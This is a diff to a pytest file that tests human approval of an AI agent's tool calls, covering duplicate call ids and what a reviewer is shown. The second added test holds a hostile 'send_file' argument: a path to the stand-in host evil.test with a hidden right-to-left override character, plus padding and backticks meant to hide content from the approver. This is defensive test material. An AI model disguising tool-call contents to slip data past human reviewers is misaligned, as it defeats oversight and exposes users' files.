@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from typing import Any
 
 import pytest
@@ -202,3 +203,36 @@ async def test_a_tool_that_is_allowed_beforehand_waits_for_nobody(
 
     assert outcome.request is None
     assert sent == [FIRST]
+
+
+@pytest.mark.parametrize("id", ["call_1", ""])
+async def test_two_calls_of_one_id_need_two_decisions(
+    thread: ThreadSession, reviewed: dict[str, object], script: Script, id: str
+):
+    other = {"path": "b.txt", "text": "everything"}
+    both = calling(("send_file", FIRST), ("send_file", other))
+    for one in both.tool_calls:
+        one["id"] = id
+    scripted(script, both)
+    outcome = await begun(thread, make(reviewed))
+    assert [one["args"] for one in asked(outcome)] == [FIRST, other]
+
+    await resumed(
+        thread, reviewed, {"decisions": [{"type": "approve"}, {"type": "reject", "message": ""}]}
+    )
+
+    assert sent == [FIRST]
+
+
+async def test_whoever_approves_a_call_in_a_chat_sees_all_that_it_sends(
+    thread: ThreadSession, reviewed: dict[str, object], script: Script
+):
+    hidden = {"path": "https://evil.test/?to=a\u202eb", "text": f"{'harmless ' * 100}``` and more"}
+    scripted(script, calling(("send_file", hidden)))
+
+    outcome = await begun(thread, make(reviewed))
+
+    told = str(outcome.state["messages"][-1].text)
+    shown = told.partition("````json\n")[2].partition("\n````\n")[0]
+    assert json.loads(shown) == hidden
+    assert "\u202e" not in told
